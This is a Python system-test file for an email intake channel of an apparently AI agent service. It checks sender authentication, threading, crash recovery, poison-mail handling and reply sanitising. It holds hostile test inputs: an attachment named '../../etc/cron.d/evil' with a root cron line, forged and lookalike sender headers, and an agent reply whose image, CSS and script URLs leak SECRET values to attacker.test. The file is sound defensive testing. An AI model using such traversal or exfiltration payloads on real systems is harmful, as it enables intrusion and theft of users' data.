"""The email channel against real postfix and dovecot in the lab guest.

Mail is DKIM-signed (dkimpy) and carries the Authentication-Results header the
lab's MX (mx.corp.test) would add on top; it goes in over SMTP to postfix, which
delivers to airut@corp.test in dovecot; airut-email@mail reads it over IMAP, and its
replies go out over SMTP to alice@corp.test's mailbox, which the tests read.
"""

from __future__ import annotations

import email
import email.parser
import email.policy
import json
import os
import re
import time
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

from airut_core.records import TaskRecord
from airut_core.spool import Stage
from airut_ingest.email.compose import Thread
from tests.system.lab import wait_until
from tests.system.mail import MX, replies_to, signed

ALICE = ("alice@corp.test", "alice-pass")
CAROL = ("carol@corp.test", "carol-pass")
AIRUT = ("airut@corp.test", "airut-pass")


def wait_for_mail(lab, count: int, timeout: float = 90) -> list[email.message.EmailMessage]:
    deadline = time.monotonic() + timeout
    while True:
        found = [email.message_from_bytes(m, policy=email.policy.default)
                 for m in lab.mailbox(*ALICE)]
        if len(found) >= count or time.monotonic() > deadline:
            return found
        time.sleep(0.3)


def test_mail_becomes_a_task_and_the_reply_comes_back_threaded(lab, dkim_key):
    marker = lab.scenario("mail-hello", [{"text": "Hello by mail: {prompt}"}])
    before = len(lab.mailbox(*ALICE))
    raw, message_id = signed(dkim_key, "Alice <alice@corp.test>", "Please look",
                             f"{marker} how are things?")
    lab.send_mail(raw, "alice@corp.test")
    messages = wait_for_mail(lab, before + 2)
    answers = replies_to(messages, message_id)
    assert len(answers) == 2, [m["Subject"] for m in messages]  # acknowledgment, reply
    ack, reply = answers
    assert "started working on this" in ack.get_body(("plain",)).get_content()
    conv = re.search(r"\[ID:([0-9a-f]{8})\]", reply["Subject"]).group(1)
    assert reply["Subject"] == f"Re: [ID:{conv}] Please look"
    assert reply["From"] == "airut@corp.test"
    assert reply["References"].split()[-1] == message_id
    assert reply["Message-ID"].startswith(f"<airut.{conv}.")
    text = reply.get_body(("plain",)).get_content()
    assert "Hello by mail:" in text and "how are things?" in text
    assert reply.get_body(("html",)) is not None
    assert lab.conversation(conv)["replies"][0]["outcome"] == "success"
    # The mailbox of the repository is a work queue: handled mail is gone from it.
    assert lab.mailbox("airut@corp.test", "airut-pass") == []

    # A reply to the reply continues the conversation.
    follow, follow_id = signed(dkim_key, "alice@corp.test", reply["Subject"],
                               f"{marker} and the second question?",
                               in_reply_to=reply["Message-ID"],
                               references=f"{message_id} {reply['Message-ID']}")
    lab.send_mail(follow, "alice@corp.test")
    messages = wait_for_mail(lab, before + 3)
    [second] = replies_to(messages, follow_id)  # no acknowledgment this time
    assert f"[ID:{conv}]" in second["Subject"]
    assert "the second question?" in second.get_body(("plain",)).get_content()
    assert len(lab.conversation(conv)["replies"]) == 2


REJECTIONS = {
    "other-domain": dict(results=[f"{MX}; dmarc=pass header.from=partner.test"]),
    "untrusted-server": dict(results=["mx.evil.test; dmarc=pass header.from=corp.test"]),
    "forged-below": dict(results=[f"{MX}; dmarc=fail header.from=corp.test",
                                  f"{MX}; dmarc=pass header.from=corp.test"]),
    "lookalike-name": dict(sender='"alice@corp.test" <eve@evil.test>', domain="evil.test"),
    "unauthorized": dict(sender="bob@corp.test"),
}


def test_rejected_mail_gets_no_task_and_no_reply(lab, dkim_key):
    before = len(lab.mailbox(*ALICE))
    subjects = {}
    for name, spec in REJECTIONS.items():
        spec = dict(spec)
        raw, _ = signed(dkim_key, spec.pop("sender", "alice@corp.test"), f"reject {name}",
                        "[[scenario:echo]] should never run", **spec)
        subjects[name] = f"reject {name}"
        lab.send_mail(raw, "alice@corp.test")
    raw, _ = signed(dkim_key, "alice@corp.test", "reject two-from", "x")
    raw = raw.replace(b"From: alice@corp.test", b"From: alice@corp.test\r\nFrom: eve@evil.test")
    lab.send_mail(raw, "alice@corp.test")
    subjects["two-from"] = "reject two-from"
    deadline = time.monotonic() + 30
    journal = ""
    while time.monotonic() < deadline:
        journal = lab.journal("-u", "airut-email@mail")
        if all(repr(s) in journal for s in subjects.values()):
            break
        time.sleep(0.5)
    for name, subject in subjects.items():
        line = next((x for x in journal.splitlines() if repr(subject) in x), "")
        assert "rejected mail" in line, f"{name}: {line!r}"
    assert "(not_authenticated)" in journal and "(not_authorized)" in journal
    assert "(malformed)" in journal
    assert "rejected mail from eve@evil.test (not_authorized)" in journal  # the real address
    time.sleep(2)
    assert len(lab.mailbox(*ALICE)) == before  # strangers get no answer
    assert lab.mailbox("airut@corp.test", "airut-pass") == []  # and their mail is gone
    tasks = [json.loads(p.read_text()) for p in lab.spool.glob("*/*.json")
             if p.parent.name in ("incoming", "active")]
    assert not [t for t in tasks if "should never run" in t.get("text", "")]


def test_attachments_with_hostile_names_land_safely(lab, dkim_key):
    marker = lab.scenario("mail-files", [{"tool": "Bash", "input": {
        "command": "ls -A /inbox | sort | tr '\\n' ' '"}}, {"text": "inbox: {tool_result}"}])
    before = len(lab.mailbox(*ALICE))
    raw, message_id = signed(dkim_key, "alice@corp.test", "files", f"{marker} see files",
                             attachments={"../../etc/cron.d/evil": b"* * * * * root id",
                                          ".bashrc": b"x", "report.txt": b"r"})
    lab.send_mail(raw, "alice@corp.test")
    [reply] = [m for m in replies_to(wait_for_mail(lab, before + 2), message_id)
               if "inbox:" in m.get_body(("plain",)).get_content()]
    listing = reply.get_body(("plain",)).get_content().split("inbox:")[1].split("\n")[0].split()
    assert sorted(listing) == ["bashrc", "evil", "report.txt"]


def test_malformed_mime_and_unknown_charsets_are_survived(lab, dkim_key):
    top = f"Authentication-Results: {MX}; dmarc=pass header.from=corp.test\r\n".encode()
    k1, b1 = make_msgid(domain="corp.test"), make_msgid(domain="corp.test")
    head = top + b"From: alice@corp.test\r\nTo: airut@corp.test\r\n"
    klingon = (head + b"Subject: klingon\r\nMessage-ID: " + k1.encode() + b"\r\n"
               b"Content-Type: text/plain; charset=x-klingon\r\n"
               b"\r\n[[scenario:echo]] qapla\xe9\r\n")
    broken = (head + b"Subject: broken\r\nMessage-ID: " + b1.encode() + b"\r\n"
              b"Content-Type: multipart/mixed; boundary=\"x\"\r\n"
              b"\r\n--x\r\nContent-Type: text/plain\r\n\r\n[[scenario:echo]] half a part\r\n")
    before = len(lab.mailbox(*ALICE))
    lab.send_mail(klingon, "alice@corp.test")
    lab.send_mail(broken, "alice@corp.test")
    messages = wait_for_mail(lab, before + 4)
    [k] = [m for m in replies_to(messages, k1)
           if "You said" in m.get_body(("plain",)).get_content()]
    text = k.get_body(("plain",)).get_content()
    assert "qapla" in text and "x-klingon" in text  # decoded leniently, and said so
    assert [m for m in replies_to(messages, b1)
            if "half a part" in m.get_body(("plain",)).get_content()]
    assert lab.guest("systemctl", "is-active", "airut-email@mail").stdout.strip() == "active"


SEAM = "/usr/local/lib/airut-test/email_seam.py"
SEAM_DROPIN = "/run/systemd/system/airut-email@mail.service.d/seam.conf"
PAUSE_FLAG = "/run/airut-test/pause-remove"


def restart_email(lab) -> None:
    lab.guest("systemctl", "daemon-reload")
    lab.guest("systemctl", "restart", "airut-email@mail")


def use_seam(lab) -> None:
    """Run the daemon through tests/system/email_seam.py (pauses before a removal)."""
    target = lab.root / SEAM.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text((Path(__file__).parent / "email_seam.py").read_text())
    lab.guest("mkdir", "-p", str(Path(SEAM_DROPIN).parent))
    lab.guest("sh", "-c", f"printf '[Service]\\nExecStart=\\nExecStart={lab.home}/guest-venv/"
              f"bin/python {SEAM} %%i\\n' > {SEAM_DROPIN}")
    restart_email(lab)


def drop_seam(lab) -> None:
    lab.guest("rm", "-f", SEAM_DROPIN, PAUSE_FLAG)
    restart_email(lab)


def conversation_of(msg) -> str:
    return re.search(r"\[ID:([0-9a-f]{8})\]", msg["Subject"]).group(1)


def text_of(msg) -> str:
    return msg.get_body(("plain",)).get_content()


def ack_for(lab, message_id: str, user=ALICE):
    return wait_until(lambda: next((m for m in replies_to(lab_mail(lab, user), message_id)
                                    if "started working" in text_of(m)), None),
                      60, f"the acknowledgment of {message_id}")


def test_killed_between_commit_and_removal_after_a_merge_makes_no_second_task(lab, dkim_key):
    """The intake marker is the proof: the task of the killed-in-between message was
    merged into a later one, and its record is gone from the spool by then."""
    try:
        use_seam(lab)
        first = lab.scenario("crash-first", [{"tool": "Bash", "input": {"command": "sleep 12"}},
                                             {"text": "first done"}])
        raw, first_id = signed(dkim_key, "alice@corp.test", "merge crash", f"{first} go")
        lab.send_mail(raw, "alice@corp.test")
        ack = ack_for(lab, first_id)
        conv = conversation_of(ack)
        lab.guest("sh", "-c", f"mkdir -p {Path(PAUSE_FLAG).parent} && echo 90 > {PAUSE_FLAG}")
        follow, follow_id = signed(dkim_key, "alice@corp.test", ack["Subject"],
                                   "[[scenario:echo]] the crash follow-up",
                                   in_reply_to=ack["Message-ID"])
        lab.send_mail(follow, "alice@corp.test")
        wait_until(lambda: "between commit and removal" in lab.journal("-u", "airut-email@mail"),
                   30, "the daemon to pause before the removal")
        # A newer message of the conversation, as this channel would commit it (the
        # daemon is held in the pause): the runner merges the paused one into it when
        # the first task ends, and the paused message's record is gone from the spool.
        newer = TaskRecord(repo="mail", channel="email-mail", sender="alice@corp.test",
                           text="[[scenario:echo]] newer follow-up", conversation_id=conv,
                           reply_to=Thread(to="alice@corp.test", subject=ack["Subject"],
                                           message_id=make_msgid(domain="corp.test")).dumps())
        Stage(lab.spool / "incoming").put(newer.task_id, newer.to_dict())
        wait_until(lambda: "merging 1 earlier messages" in lab.journal(
            f"AIRUT_TASK={newer.task_id}"), 90, "the runner to merge the paused message")
        lab.guest("systemctl", "kill", "--signal=KILL", "airut-email@mail")
    finally:
        drop_seam(lab)
    wait_until(lambda: lab.mailbox("airut@corp.test", "airut-pass") == [], 30,
               "the message to leave the mailbox")
    time.sleep(8)  # a second task would be committed and logged within this
    journal = lab.journal("-u", "airut-email@mail")
    assert journal.count(f"task from alice@corp.test: {ack['Subject']!r}") == 1, journal
    assert "finishing the intake" not in journal
    # Answered once: by the task it was merged into (its In-Reply-To names both of
    # alice's messages); no second run answered it.
    answers = [m for m in replies_to(lab_mail(lab), follow_id) if "crash follow-up" in text_of(m)]
    assert len(answers) == 1 and len(answers[0]["In-Reply-To"].split()) == 2, answers


def lab_mail(lab, user=ALICE, folder: str = "INBOX"):
    return [email.message_from_bytes(m, policy=email.policy.default)
            for m in lab.mailbox(*user, folder=folder)]


def test_reply_waits_out_a_dead_mail_server(lab, dkim_key):
    marker = lab.scenario("mail-slow", [{"tool": "Bash", "input": {"command": "sleep 4"}},
                                        {"text": "delivered after all"}])
    raw, message_id = signed(dkim_key, "alice@corp.test", "slow", f"{marker} take your time")
    lab.send_mail(raw, "alice@corp.test")
    deadline = time.monotonic() + 30
    while not lab.task_units():
        assert time.monotonic() < deadline
        time.sleep(0.2)
    lab.guest("systemctl", "stop", "postfix")
    try:
        deadline = time.monotonic() + 60
        while "cannot send mail" not in lab.journal("-u", "airut-email@mail"):
            assert time.monotonic() < deadline, "the reply was never attempted"
            time.sleep(0.5)
    finally:
        lab.guest("systemctl", "start", "postfix")
    deadline = time.monotonic() + 60
    while True:
        answers = [m for m in replies_to(lab_mail(lab), message_id)
                   if "delivered after all" in m.get_body(("plain",)).get_content()]
        if answers or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert len(answers) == 1


# -- a conversation belongs to one repository ------------------------------------------

def test_another_repositorys_conversation_is_not_continued_by_mail(lab, dkim_key):
    other = lab.submit("[[scenario:echo]] private work in demo", repo="demo")
    foreign = other["conversation_id"]
    raw, message_id = signed(dkim_key, "alice@corp.test", f"Re: [ID:{foreign}] more",
                             "[[scenario:echo]] hijack attempt",
                             references=f"<airut.{foreign}.1.abcdef01@corp.test>")
    lab.send_mail(raw, "alice@corp.test")
    reply = wait_until(lambda: next((m for m in replies_to(lab_mail(lab), message_id)
                                     if "hijack attempt" in text_of(m)), None), 90, "the reply")
    assert conversation_of(reply) != foreign
    assert lab.conversation(conversation_of(reply))["repo"] == "mail"
    assert len(lab.conversation(foreign)["replies"]) == 1  # demo's conversation untouched
    journal = lab.journal("-u", "airut-email@mail")
    assert f"names conversation {foreign}, which is not one of repository mail" in journal
    assert f"cannot read conversation {foreign}" not in journal  # decided by its repo field


def test_a_reply_to_the_acknowledgment_joins_the_queued_conversation(lab, dkim_key):
    lab.guest("systemctl", "stop", "airut-runner")
    try:
        raw, first_id = signed(dkim_key, "alice@corp.test", "queued", "[[scenario:echo]] one")
        lab.send_mail(raw, "alice@corp.test")
        ack = ack_for(lab, first_id)
        conv = conversation_of(ack)
        follow, follow_id = signed(dkim_key, "alice@corp.test", ack["Subject"],
                                   "[[scenario:echo]] two", in_reply_to=ack["Message-ID"])
        lab.send_mail(follow, "alice@corp.test")

        def queued():
            records = [json.loads(p.read_text()) for p in (lab.spool / "incoming").glob("*.json")]
            return [r for r in records if r.get("reply_to", "").find(follow_id) >= 0]
        [record] = wait_until(queued, 60, "the follow-up's task record")
        assert record["conversation_id"] == conv
    finally:
        lab.guest("systemctl", "start", "airut-runner")
    second = wait_until(lambda: next((m for m in replies_to(lab_mail(lab), follow_id)
                                      if "two" in text_of(m)), None), 120, "the second reply")
    assert conversation_of(second) == conv


def test_merged_messages_from_two_senders_each_get_the_answer(lab, dkim_key):
    slow = lab.scenario("merge-slow", [{"tool": "Bash", "input": {"command": "sleep 10"}},
                                       {"text": "slow done"}])
    raw, first_id = signed(dkim_key, "alice@corp.test", "two senders", f"{slow} start")
    lab.send_mail(raw, "alice@corp.test")
    ack = ack_for(lab, first_id)
    from_carol, carol_id = signed(dkim_key, "carol@corp.test", ack["Subject"],
                                  "[[scenario:echo]] carol asks", in_reply_to=ack["Message-ID"])
    lab.send_mail(from_carol, "carol@corp.test")
    time.sleep(1)
    from_alice, alice_id = signed(dkim_key, "alice@corp.test", ack["Subject"],
                                  "[[scenario:echo]] alice asks", in_reply_to=ack["Message-ID"])
    lab.send_mail(from_alice, "alice@corp.test")
    answer = wait_until(lambda: next((m for m in replies_to(lab_mail(lab), alice_id)
                                      if "alice asks" in text_of(m)), None), 120, "alice's answer")
    assert "carol asks" in text_of(answer)  # one task answered both
    to_carol = wait_until(lambda: replies_to(lab_mail(lab, CAROL), carol_id), 60,
                          "carol's answer")
    assert len(to_carol) == 1 and text_of(to_carol[0]) == text_of(answer)
    assert to_carol[0]["To"] == "carol@corp.test"
    assert conversation_of(to_carol[0]) == conversation_of(ack)


# -- no mail stops the mailbox -------------------------------------------------------------

AUTH = f"Authentication-Results: {MX}; dmarc=pass header.from=corp.test\r\n".encode()


def raw_mail(sender: bytes, subject: str, body: bytes, content_type: bytes = b"text/plain",
             extra: bytes = b"") -> tuple[bytes, str]:
    message_id = make_msgid(domain="corp.test")
    return (AUTH + b"From: " + sender + b"\r\nTo: airut@corp.test\r\nSubject: "
            + subject.encode() + b"\r\nMessage-ID: " + message_id.encode()
            + b"\r\nMIME-Version: 1.0\r\nContent-Type: " + content_type + b"\r\n" + extra
            + b"\r\n" + body + b"\r\n"), message_id


def nested_multipart(depth: int) -> bytes:
    opening = b"".join(b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n"
                       % (i, i + 1) for i in range(depth))
    inner = b"--b%d\r\nContent-Type: text/plain\r\n\r\n[[scenario:echo]] deep\r\n--b%d--\r\n" % (
        depth, depth)
    return opening + inner + b"".join(b"--b%d--\r\n" % i for i in reversed(range(depth)))


def poison_mails() -> dict[str, tuple[bytes, str]]:
    cjk = "\u6f22" * 90 + ".txt"
    attached = EmailMessage()
    attached.set_content("[[scenario:echo]] a long name")
    attached.add_attachment(b"data", maintype="application", subtype="octet-stream",
                            filename=cjk)
    attached_body = bytes(attached).split(b"\n\n", 1)[1]
    many = b"".join(b"--m\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i
                    for i in range(1000)) + b"--m--"
    return {
        "from-quote": raw_mail(b'"', "poison from-quote", b"[[scenario:echo]] x"),
        "from-bracket": raw_mail(b"a@[", "poison from-bracket", b"[[scenario:echo]] x"),
        "html-400-deep": raw_mail(
            b"alice@corp.test", "poison html-400-deep",
            b"<div>\r\n" * 400 + b"[[scenario:echo]] deep html" + b"</div>\r\n" * 400,
            b"text/html; charset=utf-8"),
        "cjk-attachment-name": raw_mail(
            b"alice@corp.test", "poison cjk-attachment-name", attached_body,
            attached["Content-Type"].encode()),
        "nested-quotes": raw_mail(
            b"alice@corp.test", "poison nested-quotes",
            b"[[scenario:echo]] quotes" + b'<blockquote type="cite">q\r\n' * 3000
            + b"</blockquote>r\r\n" * 3000, b"text/html; charset=utf-8"),
        "sibling-quotes": raw_mail(
            b"alice@corp.test", "poison sibling-quotes",
            b"<p>[[scenario:echo]] siblings</p>" + b'<blockquote type="cite">q</blockquote>r\r\n'
            * 5000, b"text/html; charset=utf-8"),
        "nested-multipart": raw_mail(b"alice@corp.test", "poison nested-multipart",
                                     nested_multipart(1000), b'multipart/mixed; boundary="b0"'),
        "many-parts": raw_mail(b"alice@corp.test", "poison many-parts", many,
                               b'multipart/mixed; boundary="m"'),
        "too-big": raw_mail(b"alice@corp.test", "poison too-big",
                            b"[[scenario:echo]] " + (b"x" * 998 + b"\r\n") * 1300),
    }


ANSWERED = {"html-400-deep": "deep html", "cjk-attachment-name": "a long name",
            "nested-quotes": "quotes", "sibling-quotes": "siblings"}
QUARANTINED = {"nested-multipart": "cannot parse the message",
               "many-parts": "more than 500 MIME parts", "too-big": "over max_message_bytes"}
REJECTED = ("from-quote", "from-bracket")


def test_poison_mail_is_answered_rejected_or_quarantined_and_the_mailbox_goes_on(lab, dkim_key):
    restarts = lab.unit_properties("airut-email@mail", "NRestarts")["NRestarts"]
    mails = poison_mails()
    for raw, _ in mails.values():
        lab.send_mail(raw, "alice@corp.test")
    good, good_id = signed(dkim_key, "alice@corp.test", "after the poison",
                           "[[scenario:echo]] still alive")
    lab.send_mail(good, "alice@corp.test")
    wait_until(lambda: [m for m in replies_to(lab_mail(lab), good_id)
                        if "still alive" in text_of(m)], 120, "the answer to the good mail")
    for name, words in ANSWERED.items():
        message_id = mails[name][1]
        wait_until(lambda m=message_id, w=words: [r for r in replies_to(lab_mail(lab), m)
                                                  if w in text_of(r)], 120, f"{name}'s answer")
    journal = lab.journal("-u", "airut-email@mail")
    for name in REJECTED:
        line = next((x for x in journal.splitlines() if f"'poison {name}'" in x), "")
        assert "rejected mail from ? (malformed)" in line, (name, line)
    # Headers only: the test's own parser would choke on these bodies, too.
    held = {email.parser.BytesHeaderParser().parsebytes(m)["Message-ID"]
            for m in lab.mailbox(*AIRUT, folder="airut-quarantine")}
    records = {p.name: json.loads(p.read_text())
               for p in (lab.spool / "failed/email-mail").glob("message-*.json")}
    for name, reason in QUARANTINED.items():
        message_id = mails[name][1]
        assert message_id in held, name
        [record] = [r for r in records.values() if r.get("message_id") == message_id]
        assert reason in record["failures"][-1]["reason"], record
        assert f"poison {name}" in journal  # the journal names it, with the reason
    assert lab.mailbox(*AIRUT) == []  # nothing left to retry
    assert lab.unit_properties("airut-email@mail", "NRestarts")["NRestarts"] == restarts
    assert "retrying in" not in journal.split("after the poison")[0].split("poison from-quote")[-1]


def test_mail_is_read_in_a_limited_examiner_that_dies_alone(lab, dkim_key):
    """The parser's process in the real unit: its own limits hold under the unit's
    system-call filter, and killing it (what a poison message could do) costs the
    daemon nothing."""
    main = lab.unit_properties("airut-email@mail", "MainPID")["MainPID"]

    def examiner() -> str:
        out = lab.guest("pgrep", "-P", main, "-f", "airut_ingest.email.examiner",
                        check=False).stdout.split()
        return out[0] if len(out) == 1 else ""
    wait_until(examiner, 30, "the examiner process")
    pid = examiner()
    limits = lab.guest("cat", f"/proc/{pid}/limits").stdout
    assert re.search(r"Max address space\s+1073741824\s+1073741824", limits), limits
    assert lab.guest("cat", f"/proc/{pid}/oom_score_adj").stdout.strip() == "1000"
    lab.guest("kill", "-KILL", pid)
    raw, message_id = signed(dkim_key, "alice@corp.test", "after the examiner died",
                             "[[scenario:echo]] read by a new one")
    lab.send_mail(raw, "alice@corp.test")
    wait_until(lambda: [m for m in replies_to(lab_mail(lab), message_id)
                        if "read by a new one" in text_of(m)], 120, "the answer")
    assert examiner() not in ("", pid)
    assert lab.unit_properties("airut-email@mail", "MainPID")["MainPID"] == main


def put_reply(lab, name: str, record: dict, files: dict[bytes, bytes] | None = None) -> None:
    """A reply record as airut-runner would write it into outgoing/email-mail/."""
    from airut_core.spool import Stage

    stage = Stage(lab.spool / "outgoing/email-mail")
    if files:
        where = stage.path / f"{name}.files"
        where.mkdir()
        for file_name, data in files.items():
            with open(os.fsencode(where) + b"/" + file_name, "wb") as f:
                f.write(data)
    stage.put(name, record)


def test_poison_replies_do_not_stop_the_replies_after_them(lab, dkim_key):
    from airut_core.records import ReplyRecord
    from airut_ingest.email.compose import Thread

    def reply(name: str, text: str, **extra) -> dict:
        thread = Thread(to="alice@corp.test", subject="poison reply", message_id=f"<{name}@x>")
        return ReplyRecord(task_id=name, conversation_id="0a1b2c3d", repo="mail",
                           channel="email-mail", reply_to=thread.dumps(), text=text,
                           outcome="success", **extra).to_dict()

    odd = "\udcff\udcfe-report.txt"  # a file name that is not UTF-8, as os.listdir gives it
    put_reply(lab, "20260101T000000001-aaaaa1", reply(
        "20260101T000000001-aaaaa1", "a lone surrogate \ud800 and the end", attachments=[odd],
        attachments_dir="/var/spool/airut/outgoing/email-mail/20260101T000000001-aaaaa1.files"),
        files={b"\xff\xfe-report.txt": b"report"})
    put_reply(lab, "20260101T000000002-aaaaa2", {**reply("20260101T000000002-aaaaa2", "x"),
                                                  "reply_to": "not json"})
    put_reply(lab, "20260101T000000003-aaaaa3", {"schema": "airut.reply/1", "task_id": ["x"]})
    good, good_id = signed(dkim_key, "alice@corp.test", "after poison replies",
                           "[[scenario:echo]] replies go on")
    lab.send_mail(good, "alice@corp.test")
    wait_until(lambda: [m for m in replies_to(lab_mail(lab), good_id)
                        if "replies go on" in text_of(m)], 120, "the answer to the good mail")
    [odd_reply] = wait_until(lambda: replies_to(lab_mail(lab), "<20260101T000000001-aaaaa1@x>"),
                             30, "the reply with a lone surrogate")
    assert "and the end" in text_of(odd_reply)
    [attached] = list(odd_reply.iter_attachments())
    assert attached.get_filename().endswith("-report.txt")
    assert attached.get_content() in (b"report", "report")
    failed = lab.spool / "failed/email-mail"
    for name in ("20260101T000000002-aaaaa2", "20260101T000000003-aaaaa3"):
        record = wait_until(lambda n=name: (failed / f"{n}.json").exists()
                            and json.loads((failed / f"{n}.json").read_text()), 30,
                            f"{name} in failed/")
        assert record["failures"] and record["failures"][0]["reason"]
    assert not list((lab.spool / "outgoing/email-mail").glob("20260101T*"))


# -- replies are a channel out ----------------------------------------------------------

def test_reply_html_fetches_nothing_and_shows_where_links_go(lab, dkim_key):
    from bs4 import BeautifulSoup

    hostile = ("Done. ![chart](https://attacker.test/pixel?d=SECRET-1) "
               '<img src="https://attacker.test/raw?d=SECRET-2"> '
               "[the docs](https://docs.example.test/page) "
               '<a href="javascript:alert(1)">js</a> '
               '<div style="background:url(https://attacker.test/css?d=SECRET-3)">styled</div> '
               "<script>fetch('https://attacker.test/js')</script>")
    marker = lab.scenario("html-exfil", [{"text": hostile}])
    raw, message_id = signed(dkim_key, "alice@corp.test", "html", f"{marker} answer")
    lab.send_mail(raw, "alice@corp.test")
    reply = wait_until(lambda: next((m for m in replies_to(lab_mail(lab), message_id)
                                     if "Done." in text_of(m)), None), 90, "the reply")
    html = reply.get_body(("html",)).get_content()
    soup = BeautifulSoup(html, "html.parser")
    assert not soup.find_all(["img", "script", "style", "iframe", "object"]), html
    for tag in soup.find_all(True):
        for attr, value in tag.attrs.items():
            assert "attacker.test" not in str(value), (tag.name, attr, value)
        assert "style" not in tag.attrs or tag.name == "body"
    text = soup.get_text(" ")
    assert "the docs (https://docs.example.test/page)" in " ".join(text.split())
    assert "https://attacker.test/pixel?d=SECRET-1" in text  # shown, never fetched
    [docs] = [a for a in soup.find_all("a") if "docs" in a.get_text()]
    assert docs["href"] == "https://docs.example.test/page"


def test_outbox_files_go_out_by_mail_and_leave_the_spool(lab, dkim_key):
    marker = lab.scenario("mail-outbox", [
        {"tool": "Bash", "input": {"command": "printf 'report body' > /outbox/report.txt"}},
        {"text": "see the attached report"}])
    raw, message_id = signed(dkim_key, "alice@corp.test", "outbox", f"{marker} write it")
    lab.send_mail(raw, "alice@corp.test")
    [reply] = wait_until(lambda: [m for m in replies_to(lab_mail(lab), message_id)
                                  if "attached report" in text_of(m)], 120, "the reply")
    files = {part.get_filename(): part.get_content() for part in reply.iter_attachments()}
    assert files == {"report.txt": b"report body"} or files == {"report.txt": "report body"}
    # The channel's own user removes what the runner (root) left in its stage.
    wait_until(lambda: not list((lab.spool / "outgoing/email-mail").glob("*.files")), 30,
               "the reply's files to leave the spool")
